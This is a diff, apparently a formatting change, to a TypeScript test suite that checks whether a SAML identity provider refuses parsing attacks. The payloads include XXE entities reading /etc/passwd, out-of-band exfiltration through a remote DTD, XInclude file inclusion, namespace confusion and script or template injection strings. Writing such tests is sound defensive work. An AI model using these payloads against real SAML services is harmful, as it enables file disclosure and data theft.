@@ -10,8 +10,23 @@ import { CookieJar, SP_ACS, SP_ENTITY, samlResponseFrom, samlWorld, type FetchRe
 import { expectError } from '../helpers/admin-plane.ts';
 import { Client, type Res } from '../helpers/http.ts';
 import {
-  EVIL_ACS, NS, addSamlService, authnRequest, base64, deflated, expectRefused, expectRefusedWithoutEffect, expectSignInRedirect,
-  newRequestId, redirectQuery, send, sendPost, sendRedirect, signedInJar, startListener, type Listener,
+  EVIL_ACS,
+  NS,
+  addSamlService,
+  authnRequest,
+  base64,
+  deflated,
+  expectRefused,
+  expectRefusedWithoutEffect,
+  expectSignInRedirect,
+  newRequestId,
+  redirectQuery,
+  send,
+  sendPost,
+  sendRedirect,
+  signedInJar,
+  startListener,
+  type Listener,
 } from '../helpers/saml-attacks.ts';
 
 const BINDINGS = ['redirect', 'post'] as const;
@@ -27,7 +42,11 @@ function billionLaughs(sso: string): string {
 /** What a FetchResult looks like to expectError (the JSON error shape check). */
 function asRes(r: FetchResult): Res<unknown> {
   let body: unknown;
-  try { body = JSON.parse(r.text); } catch { body = undefined; }
+  try {
+    body = JSON.parse(r.text);
+  } catch {
+    body = undefined;
+  }
   return { status: r.status, headers: r.headers, body, text: r.text };
 }
 
@@ -78,10 +97,19 @@ describe.each(databases())('SAML SSO parsing attacks on $name', (factory) => {
   describe('A2 XXE', () => {
     const payloads = (target: string): [string, (sso: string) => string][] => [
       ['external DTD', (s) => `<?xml version="1.0"?><!DOCTYPE samlp:AuthnRequest SYSTEM "${target}/external.dtd">${authnRequest(s)}`],
-      ['SYSTEM file:///etc/passwd entity', (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${authnRequest(s, { issuer: '&xxe;' })}`],
+      [
+        'SYSTEM file:///etc/passwd entity',
+        (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${authnRequest(s, { issuer: '&xxe;' })}`,
+      ],
       ['SYSTEM http entity', (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "${target}/entity">]>${authnRequest(s, { issuer: '&xxe;' })}`],
-      ['parameter entity fetching a remote DTD', (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY % remote SYSTEM "${target}/param.dtd"> %remote;]>${authnRequest(s)}`],
-      ['out-of-band exfiltration with nested parameter entities', (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${target}/oob.dtd"> %dtd;]>${authnRequest(s)}`],
+      [
+        'parameter entity fetching a remote DTD',
+        (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY % remote SYSTEM "${target}/param.dtd"> %remote;]>${authnRequest(s)}`,
+      ],
+      [
+        'out-of-band exfiltration with nested parameter entities',
+        (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${target}/oob.dtd"> %dtd;]>${authnRequest(s)}`,
+      ],
       ['PUBLIC identifier', (s) => `<!DOCTYPE samlp:AuthnRequest PUBLIC "-//EVIL//DTD//EN" "${target}/public.dtd">${authnRequest(s)}`],
       ['lower-case doctype keyword', (s) => `<!doctype samlp:AuthnRequest SYSTEM "${target}/lower.dtd">${authnRequest(s)}`],
     ];
@@ -114,7 +142,11 @@ describe.each(databases())('SAML SSO parsing attacks on $name', (factory) => {
       const xinclude = `<samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${listener.url}/xinclude" parse="text"/></samlp:Extensions>`;
       const schemaLoc = ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${NS.protocol} ${listener.url}/evil.xsd"`;
       const fileInclude = `<samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></samlp:Extensions>`;
-      for (const xml of [authnRequest(sso, { afterIssuer: xinclude }), authnRequest(sso, { attrs: schemaLoc }), authnRequest(sso, { afterIssuer: fileInclude })]) {
+      for (const xml of [
+        authnRequest(sso, { afterIssuer: xinclude }),
+        authnRequest(sso, { attrs: schemaLoc }),
+        authnRequest(sso, { afterIssuer: fileInclude }),
+      ]) {
         for (const binding of BINDINGS) {
           const res = await send(binding, sso, xml);
           // Harmless when accepted (nothing is fetched or included), so either outcome is fine here.
@@ -262,14 +294,21 @@ describe.each(databases())('SAML SSO parsing attacks on $name', (factory) => {
 
   describe('A13 namespace-prefix redeclaration', () => {
     let jar: CookieJar;
-    beforeAll(async () => { jar = await signedInJar(world); });
+    beforeAll(async () => {
+      jar = await signedInJar(world);
+    });
 
-    const samlDefault = (sso: string, id: string) => `<AuthnRequest xmlns="${NS.protocol}" ID="${id}" Version="2.0" IssueInstant="${new Date().toISOString()}" Destination="${sso}" AssertionConsumerServiceURL="${SP_ACS}">`
-      + `<Issuer xmlns="${NS.assertion}">${SP_ENTITY}</Issuer></AuthnRequest>`;
-    const otherPrefixes = (sso: string, id: string) => `<p2:AuthnRequest xmlns:p2="${NS.protocol}" xmlns:samlp="urn:evil:protocol" xmlns:saml="urn:evil:assertion" ID="${id}" Version="2.0" IssueInstant="${new Date().toISOString()}" Destination="${sso}">`
-      + `<a2:Issuer xmlns:a2="${NS.assertion}">${SP_ENTITY}</a2:Issuer></p2:AuthnRequest>`;
+    const samlDefault = (sso: string, id: string) =>
+      `<AuthnRequest xmlns="${NS.protocol}" ID="${id}" Version="2.0" IssueInstant="${new Date().toISOString()}" Destination="${sso}" AssertionConsumerServiceURL="${SP_ACS}">` +
+      `<Issuer xmlns="${NS.assertion}">${SP_ENTITY}</Issuer></AuthnRequest>`;
+    const otherPrefixes = (sso: string, id: string) =>
+      `<p2:AuthnRequest xmlns:p2="${NS.protocol}" xmlns:samlp="urn:evil:protocol" xmlns:saml="urn:evil:assertion" ID="${id}" Version="2.0" IssueInstant="${new Date().toISOString()}" Destination="${sso}">` +
+      `<a2:Issuer xmlns:a2="${NS.assertion}">${SP_ENTITY}</a2:Issuer></p2:AuthnRequest>`;
 
-    it.each([['default namespaces', samlDefault], ['unusual prefixes with saml/samlp bound elsewhere', otherPrefixes]])('%s: read by namespace, so the SP is recognised', async (_n, build) => {
+    it.each([
+      ['default namespaces', samlDefault],
+      ['unusual prefixes with saml/samlp bound elsewhere', otherPrefixes],
+    ])('%s: read by namespace, so the SP is recognised', async (_n, build) => {
       for (const binding of BINDINGS) expectSignInRedirect(await send(binding, sso, build(sso, newRequestId())));
     });
 
@@ -307,7 +346,9 @@ describe.each(databases())('SAML SSO parsing attacks on $name', (factory) => {
 
   describe('A16 markup and template syntax in the request ID', () => {
     let jar: CookieJar;
-    beforeAll(async () => { jar = await signedInJar(world); });
+    beforeAll(async () => {
+      jar = await signedInJar(world);
+    });
 
     const hostile = [
       '_${7*7}',
@@ -316,7 +357,7 @@ describe.each(databases())('SAML SSO parsing attacks on $name', (factory) => {
       '_&lt;script&gt;alert(1)&lt;/script&gt;',
       '_&quot; onload=&quot;alert(1)',
       '_a&amp;b',
-      "_a&apos;b",
+      '_a&apos;b',
       '1startsWithDigit',
       '_has space',
     ];
